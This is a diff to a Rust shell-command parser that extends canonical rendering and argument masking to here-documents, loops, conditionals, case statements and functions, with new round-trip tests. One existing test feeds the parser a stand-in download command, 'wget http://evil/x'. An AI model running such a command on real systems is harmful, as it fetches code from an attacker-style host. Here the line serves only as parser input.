@@ -1,18 +1,24 @@
 //! Canonical re-rendering and anonymization of parsed command lines.
 //!
-//! [`render`] turns a [`Script`] back into a canonical single-line string
-//! (uniform spacing, original quoting kept via each word's raw slice).
-//! [`mask_arguments`] reproduces the paper's anonymized presentation style
+//! [`render`] turns a [`Script`] back into a canonical string (uniform
+//! spacing, original quoting kept via each word's raw slice; here-doc
+//! bodies re-emitted after the command line). [`mask_arguments`]
+//! reproduces the paper's anonymized presentation style
 //! (`cd ********` in Figure 2): command names and flags are kept, every
 //! argument is replaced by `*`.
+//!
+//! Rendering is the inverse of parsing: `parse(render(ast)) ≡ ast`
+//! (modulo nothing — the equality is structural, pinned by the crate's
+//! round-trip tests).
 
-use crate::ast::{Command, Pipeline, Redirect, Script, SimpleCommand};
+use crate::ast::{Command, Pipeline, Redirect, RedirectOp, Script, SimpleCommand};
 
 /// Renders a parsed script back to a canonical command-line string.
 ///
 /// Words keep their original quoting (the raw source slice); spacing and
 /// separators are normalized to single spaces, `; ` between lists and
-/// ` | `, ` && `, ` || ` between commands.
+/// ` | `, ` && `, ` || ` between commands. Here-document bodies are
+/// appended after the command line, each terminated by its delimiter.
 ///
 /// ```
 /// use shell_parser::{parse, render};
@@ -22,25 +28,35 @@ use crate::ast::{Command, Pipeline, Redirect, Script, SimpleCommand};
 /// ```
 pub fn render(script: &Script) -> String {
     let mut out = String::new();
+    let mut heredocs: Vec<(String, String)> = Vec::new();
+    render_script(script, &mut out, &mut heredocs);
+    for (delim, body) in heredocs {
+        out.push('\n');
+        out.push_str(&body);
+        out.push_str(&delim);
+    }
+    out
+}
+
+fn render_script(script: &Script, out: &mut String, heredocs: &mut Vec<(String, String)>) {
     for (i, list) in script.lists.iter().enumerate() {
         if i > 0 {
             out.push_str("; ");
         }
-        render_pipeline(&list.first, &mut out);
+        render_pipeline(&list.first, out, heredocs);
         for (conn, p) in &list.rest {
             out.push(' ');
             out.push_str(conn.as_str());
             out.push(' ');
-            render_pipeline(p, &mut out);
+            render_pipeline(p, out, heredocs);
         }
         if list.background {
             out.push_str(" &");
         }
     }
-    out
 }
 
-fn render_pipeline(p: &Pipeline, out: &mut String) {
+fn render_pipeline(p: &Pipeline, out: &mut String, heredocs: &mut Vec<(String, String)>) {
     if p.negated {
         out.push_str("! ");
     }
@@ -48,27 +64,86 @@ fn render_pipeline(p: &Pipeline, out: &mut String) {
         if i > 0 {
             out.push_str(" | ");
         }
-        render_command(cmd, out);
+        render_command(cmd, out, heredocs);
     }
 }
 
-fn render_command(cmd: &Command, out: &mut String) {
+fn render_command(cmd: &Command, out: &mut String, heredocs: &mut Vec<(String, String)>) {
     match cmd {
-        Command::Simple(c) => render_simple(c, out),
+        Command::Simple(c) => render_simple(c, out, heredocs),
         Command::Subshell(inner) => {
             out.push('(');
-            out.push_str(&render(inner));
+            render_script(inner, out, heredocs);
             out.push(')');
         }
         Command::Group(inner) => {
             out.push_str("{ ");
-            out.push_str(&render(inner));
+            render_script(inner, out, heredocs);
             out.push_str("; }");
+        }
+        Command::For(f) => {
+            out.push_str("for ");
+            out.push_str(&f.var.raw);
+            if let Some(words) = &f.words {
+                out.push_str(" in");
+                for w in words {
+                    out.push(' ');
+                    out.push_str(&w.raw);
+                }
+            }
+            out.push_str("; do ");
+            render_script(&f.body, out, heredocs);
+            out.push_str("; done");
+        }
+        Command::While(l) => {
+            out.push_str(if l.until { "until " } else { "while " });
+            render_script(&l.condition, out, heredocs);
+            out.push_str("; do ");
+            render_script(&l.body, out, heredocs);
+            out.push_str("; done");
+        }
+        Command::If(i) => {
+            for (n, (cond, body)) in i.branches.iter().enumerate() {
+                out.push_str(if n == 0 { "if " } else { "; elif " });
+                render_script(cond, out, heredocs);
+                out.push_str("; then ");
+                render_script(body, out, heredocs);
+            }
+            if let Some(e) = &i.else_body {
+                out.push_str("; else ");
+                render_script(e, out, heredocs);
+            }
+            out.push_str("; fi");
+        }
+        Command::Case(c) => {
+            out.push_str("case ");
+            out.push_str(&c.subject.raw);
+            out.push_str(" in ");
+            for arm in &c.arms {
+                for (n, p) in arm.patterns.iter().enumerate() {
+                    if n > 0 {
+                        out.push_str(" | ");
+                    }
+                    out.push_str(&p.raw);
+                }
+                out.push_str(") ");
+                if !arm.body.lists.is_empty() {
+                    render_script(&arm.body, out, heredocs);
+                    out.push(' ');
+                }
+                out.push_str(";; ");
+            }
+            out.push_str("esac");
+        }
+        Command::FunctionDef(f) => {
+            out.push_str(&f.name.raw);
+            out.push_str("() ");
+            render_command(&f.body, out, heredocs);
         }
     }
 }
 
-fn render_simple(c: &SimpleCommand, out: &mut String) {
+fn render_simple(c: &SimpleCommand, out: &mut String, heredocs: &mut Vec<(String, String)>) {
     let mut first = true;
     for a in &c.assignments {
         if !first {
@@ -88,21 +163,30 @@ fn render_simple(c: &SimpleCommand, out: &mut String) {
         if !first {
             out.push(' ');
         }
-        render_redirect(r, out);
+        render_redirect(r, out, heredocs);
         first = false;
     }
 }
 
-fn render_redirect(r: &Redirect, out: &mut String) {
+fn render_redirect(r: &Redirect, out: &mut String, heredocs: &mut Vec<(String, String)>) {
     if let Some(fd) = r.fd {
         out.push_str(&fd.to_string());
     }
     out.push_str(r.op.as_str());
     out.push_str(&r.target.raw);
+    if matches!(r.op, RedirectOp::Heredoc | RedirectOp::HeredocStrip) {
+        if let Some(body) = &r.heredoc_body {
+            // The terminator line must match the *unquoted* delimiter
+            // text, which is what the lexer compares body lines against.
+            heredocs.push((r.target.text.clone(), body.clone()));
+        }
+    }
 }
 
 /// Replaces every non-flag argument with `*`, keeping command names and
 /// flags — the anonymized form used throughout the paper's tables.
+/// Compound keywords are kept; loop/case words, subjects and patterns
+/// are masked like arguments; here-doc bodies are omitted entirely.
 ///
 /// ```
 /// use shell_parser::{parse, mask_arguments};
@@ -112,22 +196,26 @@ fn render_redirect(r: &Redirect, out: &mut String) {
 /// ```
 pub fn mask_arguments(script: &Script) -> String {
     let mut out = String::new();
+    mask_script(script, &mut out);
+    out
+}
+
+fn mask_script(script: &Script, out: &mut String) {
     for (i, list) in script.lists.iter().enumerate() {
         if i > 0 {
             out.push_str("; ");
         }
-        mask_pipeline(&list.first, &mut out);
+        mask_pipeline(&list.first, out);
         for (conn, p) in &list.rest {
             out.push(' ');
             out.push_str(conn.as_str());
             out.push(' ');
-            mask_pipeline(p, &mut out);
+            mask_pipeline(p, out);
         }
         if list.background {
             out.push_str(" &");
         }
     }
-    out
 }
 
 fn mask_pipeline(p: &Pipeline, out: &mut String) {
@@ -135,18 +223,78 @@ fn mask_pipeline(p: &Pipeline, out: &mut String) {
         if i > 0 {
             out.push_str(" | ");
         }
-        match cmd {
-            Command::Simple(c) => mask_simple(c, out),
-            Command::Subshell(inner) => {
-                out.push('(');
-                out.push_str(&mask_arguments(inner));
-                out.push(')');
+        mask_command(cmd, out);
+    }
+}
+
+fn mask_command(cmd: &Command, out: &mut String) {
+    match cmd {
+        Command::Simple(c) => mask_simple(c, out),
+        Command::Subshell(inner) => {
+            out.push('(');
+            mask_script(inner, out);
+            out.push(')');
+        }
+        Command::Group(inner) => {
+            out.push_str("{ ");
+            mask_script(inner, out);
+            out.push_str("; }");
+        }
+        Command::For(f) => {
+            out.push_str("for ");
+            out.push_str(&f.var.text);
+            if let Some(words) = &f.words {
+                out.push_str(" in");
+                for _ in words {
+                    out.push_str(" *");
+                }
             }
-            Command::Group(inner) => {
-                out.push_str("{ ");
-                out.push_str(&mask_arguments(inner));
-                out.push_str("; }");
+            out.push_str("; do ");
+            mask_script(&f.body, out);
+            out.push_str("; done");
+        }
+        Command::While(l) => {
+            out.push_str(if l.until { "until " } else { "while " });
+            mask_script(&l.condition, out);
+            out.push_str("; do ");
+            mask_script(&l.body, out);
+            out.push_str("; done");
+        }
+        Command::If(i) => {
+            for (n, (cond, body)) in i.branches.iter().enumerate() {
+                out.push_str(if n == 0 { "if " } else { "; elif " });
+                mask_script(cond, out);
+                out.push_str("; then ");
+                mask_script(body, out);
             }
+            if let Some(e) = &i.else_body {
+                out.push_str("; else ");
+                mask_script(e, out);
+            }
+            out.push_str("; fi");
+        }
+        Command::Case(c) => {
+            out.push_str("case * in ");
+            for arm in &c.arms {
+                for (n, _) in arm.patterns.iter().enumerate() {
+                    if n > 0 {
+                        out.push_str(" | ");
+                    }
+                    out.push('*');
+                }
+                out.push_str(") ");
+                if !arm.body.lists.is_empty() {
+                    mask_script(&arm.body, out);
+                    out.push(' ');
+                }
+                out.push_str(";; ");
+            }
+            out.push_str("esac");
+        }
+        Command::FunctionDef(f) => {
+            out.push_str(&f.name.text);
+            out.push_str("() ");
+            mask_command(&f.body, out);
         }
     }
 }
@@ -237,6 +385,45 @@ mod tests {
     }
 
     #[test]
+    fn render_heredoc_reemits_body() {
+        let s = parse("cat << EOF\nalpha\nbeta\nEOF").unwrap();
+        assert_eq!(render(&s), "cat <<EOF\nalpha\nbeta\nEOF");
+        // and the round trip restores the same AST
+        let again = parse(&render(&s)).unwrap();
+        assert_eq!(again, s);
+    }
+
+    #[test]
+    fn render_compound_commands() {
+        let f = parse("for f in a b; do cat $f; done").unwrap();
+        assert_eq!(render(&f), "for f in a b; do cat $f; done");
+        let w = parse("while true; do sleep 1; done").unwrap();
+        assert_eq!(render(&w), "while true; do sleep 1; done");
+        let i = parse("if test -f x; then cat x; else echo no; fi").unwrap();
+        assert_eq!(render(&i), "if test -f x; then cat x; else echo no; fi");
+        let c = parse("case $1 in a) run ;; *) usage ;; esac").unwrap();
+        assert_eq!(render(&c), "case $1 in a) run ;; *) usage ;; esac");
+        let d = parse("cleanup() { rm -rf /tmp/x; }").unwrap();
+        assert_eq!(render(&d), "cleanup() { rm -rf /tmp/x; }");
+    }
+
+    #[test]
+    fn compound_round_trip_restores_ast() {
+        for line in [
+            "for f in a b; do cat $f; done",
+            "until ping -c1 h; do sleep 5; done",
+            "if a; then b; elif c; then d; else e; fi",
+            "case $x in p | q) go ;; *) ;; esac",
+            "f() { echo hi; }",
+            "cat <<EOF | grep x\nneedle\nEOF",
+        ] {
+            let ast = parse(line).unwrap();
+            let again = parse(&render(&ast)).unwrap();
+            assert_eq!(again, ast, "round trip changed the AST for {line:?}");
+        }
+    }
+
+    #[test]
     fn mask_keeps_names_and_flags() {
         let s = parse("docker attach --sig-proxy=false mycontainer").unwrap();
         assert_eq!(mask_arguments(&s), "docker * --sig-proxy=false *");
@@ -252,5 +439,19 @@ mod tests {
     fn mask_recurses_into_subshell() {
         let s = parse("(wget http://evil/x)").unwrap();
         assert_eq!(mask_arguments(&s), "(wget *)");
+    }
+
+    #[test]
+    fn mask_compounds_keep_keywords() {
+        let s = parse("for h in a b; do ssh $h id; done").unwrap();
+        assert_eq!(mask_arguments(&s), "for h in * *; do ssh * *; done");
+        let c = parse("case $1 in up) start svc ;; esac").unwrap();
+        assert_eq!(mask_arguments(&c), "case * in *) start * ;; esac");
+    }
+
+    #[test]
+    fn mask_heredoc_omits_body() {
+        let s = parse("cat << EOF\nsecret\nEOF").unwrap();
+        assert_eq!(mask_arguments(&s), "cat <<*");
     }
 }
